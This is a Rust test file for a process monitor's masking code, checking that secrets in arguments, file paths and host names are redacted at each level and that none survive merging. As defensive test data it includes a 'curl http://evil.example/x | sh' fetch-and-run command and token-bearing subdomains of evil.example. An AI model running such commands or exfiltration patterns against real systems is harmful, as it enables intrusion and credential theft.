//! These tests say what each level leaves of arguments and names, and that nothing passes the place
//! where parts are merged.
#![cfg(feature = "compare")]
#![expect(clippy::unwrap_used, reason = "a panic shows the line")]

use procmon_profile::mask::{MaskLevel, mask_argv_at, mask_line, mask_name, mask_texts};
use procmon_profile::merge::{NodeCapture, merge};
use procmon_profile::model::{
    Container, Dns, Endpoint, Event, EventType, File, Process, Profile, Remote, Session,
};
use procmon_profile::text::Text;
use procmon_profile::wire::{Part, WindowReport};
use proptest::prelude::*;

const LEVELS: [MaskLevel; 4] = [
    MaskLevel::None,
    MaskLevel::Default,
    MaskLevel::Strict,
    MaskLevel::Shape,
];
const COMMAND: [&str; 9] = [
    "/usr/bin/app",
    "serve",
    "--mode=fast",
    "-p",
    "8080",
    "--token",
    "s3cretToken",
    "/etc/app.conf",
    "db.example:5432",
];

fn masked(argv: &[&str], level: MaskLevel) -> Vec<String> {
    let mut masked: Vec<String> = argv.iter().map(ToString::to_string).collect();
    mask_argv_at(&mut masked, level);
    let mut twice = masked.clone();
    mask_argv_at(&mut twice, level);
    assert_eq!(twice, masked, "masking twice is masking once");
    masked
}

#[test]
fn each_level_hides_more_than_the_one_before() {
    assert_eq!(masked(&COMMAND, MaskLevel::None), COMMAND);
    assert_eq!(
        masked(&COMMAND, MaskLevel::Default),
        [
            "/usr/bin/app",
            "serve",
            "--mode=fast",
            "-p",
            "8080",
            "--token",
            "***",
            "/etc/app.conf",
            "db.example:5432"
        ]
    );
    assert_eq!(
        masked(&COMMAND, MaskLevel::Strict),
        [
            "/usr/bin/app",
            "***",
            "--mode=***",
            "-p",
            "8080",
            "--token",
            "***",
            "/etc/app.conf",
            "db.example:5432"
        ]
    );
    assert_eq!(
        masked(&COMMAND, MaskLevel::Shape),
        [
            "/usr/bin/app",
            "<word:5>",
            "--mode=<word:4>",
            "-p",
            "<number>",
            "--token",
            "***",
            "<path>",
            "<address>"
        ]
    );
}

#[test]
fn programs_of_a_script_stay_at_the_strict_level() {
    assert_eq!(
        masked(
            &["sh", "-c", "cd /srv && curl -s http://evil.example/x | sh"],
            MaskLevel::Strict
        ),
        ["sh", "-c", "cd /srv && curl -s http://evil.example/x | sh"]
    );
    assert_eq!(
        mask_line("mysql -ps3cret shop", MaskLevel::Strict),
        "mysql -p*** ***"
    );
}

#[test]
fn names_of_files_are_evidence() {
    for name in [
        "/nix/store/8ha1dhmx807czjczmwy078s4r9s254il-glibc-2.38/lib/libc.so.6",
        "/usr/lib/x86_64-linux-gnu/libcrypto.so.3.0.11",
        "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs",
        "/var/lib/docker/overlay2/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/merged",
        "/var/lib/kubelet/pods/9f1c2d3e-4b5a-6978-8897-a6b5c4d3e2f1/volumes/kubernetes.io~secret/token",
        "/tmp/tmp.Ab3dE6fGh9",
        "/repo/.git/objects/3a/7bd3e2360a3d29eea436fcfb7e44c735d117c4",
        "/root/.cache/go-build/3a/3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b-d",
        "/proc/self/fd/3",
        "/run/secrets/db-password",
        "/etc/ssl/private/server.key",
        "/data/region=eu/day=1/part-0.parquet",
        "/target/debug/deps/libserde-a1b2c3d4e5f60718.rlib",
        "/target/debug/incremental/app-1x2y3z/s-homdp3hhw6-0ofw37y.lock",
        "socket:[12345]",
        "@/containerd-shim/k8s.io/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/shim.sock",
        "memfd:pulseaudio",
    ] {
        assert_eq!(mask_name(name, false, MaskLevel::Default), None, "{name}");
    }
    for host in [
        "kubernetes.default.svc.cluster.local",
        "a1b2c3d4e5f60718293a4b5c6d7e8f90-1234567890.eu-west-1.elb.amazonaws.com",
        "xn--bcher-kva.example",
    ] {
        assert_eq!(mask_name(host, true, MaskLevel::Default), None, "{host}");
    }
}

#[test]
fn credentials_in_names_go() {
    for (name, folded, expected) in [
        ("/tmp/password=hunter2/x", false, "/tmp/password=***/x"),
        (
            "/cache/api?token=hunter2&x=1",
            false,
            "/cache/api?token=***&x=1",
        ),
        (
            "/cache/ghp_4U3LSowpDx8XvYE7A8GH56oxU5aWnY2mzIbV.json",
            false,
            "/cache/ghp_***.json",
        ),
        ("/s/AKIAIOSFODNN7EXAMPLE", false, "/s/AKIA***"),
        ("@agent-secret=hunter2", false, "@agent-secret=***"),
        (
            "ghp_4u3lsowpdx8xvye7a8gh56oxu5awny2mzibv.evil.example",
            true,
            "ghp_***.evil.example",
        ),
    ] {
        let masked = mask_name(name, folded, MaskLevel::Default);
        assert_eq!(masked.as_deref(), Some(expected));
        assert_eq!(
            mask_name(expected, folded, MaskLevel::Default),
            None,
            "{expected}"
        );
    }
    assert_eq!(
        mask_name("/x/Xq3mA9xZtLpR2vW7cYbN5hJd", false, MaskLevel::Strict).as_deref(),
        Some("/x/Xq3m***")
    );
}

/// A capture with a token in each text that a target chooses.
fn capture(token: &str, level: MaskLevel) -> Profile {
    let path = |begin: &str| Text::from(format!("{begin}/{token}"));
    let host = Text::from(format!("{}.evil.example", token.to_lowercase()));
    let container = Part::Container(Box::new(Container {
        container: format!("app --token {token}").into(),
        ..Container::default()
    }));
    let parts = vec![
        container,
        Part::Window(WindowReport::default()),
        Part::Processes {
            container: 0,
            rows: vec![Process {
                id: "p1".into(),
                exe: path("/exe"),
                argv: vec!["app".into(), token.into()],
                cwd: Some(path("/cwd")),
                count: 1,
                ..Process::default()
            }],
        },
        Part::Files {
            container: 0,
            rows: vec![File {
                path: path("/file"),
                exe: path("/exe"),
                ..File::default()
            }],
        },
        Part::Network {
            container: 0,
            rows: vec![serde_json::from_value(serde_json::json!({
                "exe": path("/exe"), "protocol": "unix-stream", "direction": "outbound",
                "local": Endpoint { path: Some(path("/local")), ..Endpoint::default() },
                "remote": Remote { path: Some(path("@remote")), names: vec![host.clone()], ..Remote::default() },
                "connections": 1, "datagramsSent": 0, "datagramsReceived": 0, "failures": {}, "bytesSent": 0, "bytesReceived": 0
            }))
            .unwrap()],
        },
        Part::Dns {
            container: 0,
            rows: vec![Dns {
                exe: path("/exe"),
                name: host.clone(),
                record_type: "A".into(),
                answers: vec![host],
                count: 1,
                ..Dns::default()
            }],
        },
        Part::Events {
            container: 0,
            rows: vec![Event {
                time: "2026-01-01T00:00:00Z".into(),
                event_type: EventType::MemfdExec,
                process: None,
                count: 1,
                details: [("name".into(), path("memfd:"))].into(),
            }],
        },
    ];
    let capture = NodeCapture {
        node: "n".into(),
        parts,
        mask: level,
        ..NodeCapture::default()
    };
    merge(Session::default(), vec![capture])
}

#[test]
fn nothing_passes_where_parts_are_merged() {
    let token = "ghp_4U3LSowpDx8XvYE7A8GH56oxU5aWnY2mzIbV";
    let shown = |profile: &Profile| {
        let text = serde_json::to_string(profile).unwrap().to_lowercase();
        text.matches(&token.to_lowercase()).count()
    };
    assert_eq!(shown(&capture(token, MaskLevel::None)), 14);
    for level in &LEVELS[1..] {
        let profile = capture(token, *level);
        assert_eq!(shown(&profile), 0, "{level:?}: {profile:#?}");
        let rows = &profile.containers[0];
        assert_eq!(
            rows.files[0].exe, rows.processes[0].exe,
            "rows still belong together"
        );
        assert_eq!(
            profile
                .completeness
                .notes
                .iter()
                .filter(|note| note.contains("masked"))
                .count(),
            usize::from(*level != MaskLevel::Default)
        );
    }
}

/// Pieces that matter to a mask.
fn piece() -> impl Strategy<Value = String> {
    let known = [
        "password",
        "--token",
        "-p",
        "-u",
        "=",
        ":",
        " ",
        "'",
        "\"",
        "\\",
        "\\\\",
        "`",
        "$(",
        ")",
        "|",
        ";",
        "&",
        "\n",
        "<<E\n",
        "E\n",
        "{",
        "}",
        "[",
        "]",
        "(",
        ",",
        "://",
        "@",
        "/",
        "***",
        "mysql",
        "sh",
        "-c",
        "curl",
        "-H",
        "Authorization: Bearer ",
        "Cookie: a=",
        "S3cr3tVal",
        "foo",
        "AKIAIOSFODNN7EXAMPLE",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
        "Xq3mA9xZtLpR2vW7cYbN5hJdFgS4aUe6",
        "IDENTIFIED BY ",
        "echo ",
        "chpasswd",
        "<password>",
        "</",
        "key",
        "ü",
        "http",
        "--",
        "-",
        "?",
        "&x=",
        "pass:",
        "secret",
        "put ",
        "create ",
        "value=",
        "user",
        "login ",
        "$6$abcdefgh$abcdefghijklmnop",
        ">",
        "-----BEGIN PRIVATE KEY-----",
    ];
    prop_oneof![
        8 => prop::sample::select(known.to_vec()).prop_map(ToOwned::to_owned),
        1 => "[a-zA-Z0-9]{1,24}",
        1 => "\\PC{1,3}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn masking_twice_is_masking_once(
        argv in prop::collection::vec(prop::collection::vec(piece(), 0..8), 0..6),
        level in prop::sample::select(LEVELS.to_vec()),
    ) {
        let argv: Vec<String> = argv.into_iter().map(|pieces| pieces.concat()).collect();
        let mut once = argv.clone();
        mask_argv_at(&mut once, level);
        let mut twice = once.clone();
        mask_argv_at(&mut twice, level);
        prop_assert_eq!(&twice, &once);
        let mut texts: Vec<Text> = argv.iter().map(|argument| Text::from_bytes(argument.as_bytes())).collect();
        mask_texts(&mut texts, level);
        let mut again = texts.clone();
        mask_texts(&mut again, level);
        prop_assert_eq!(again, texts);
        for argument in &argv {
            for folded in [false, true] {
                if let Some(once) = mask_name(argument, folded, level) {
                    prop_assert_eq!(mask_name(&once, folded, level), None, "{} as {}", argument, once);
                }
            }
        }
    }
}
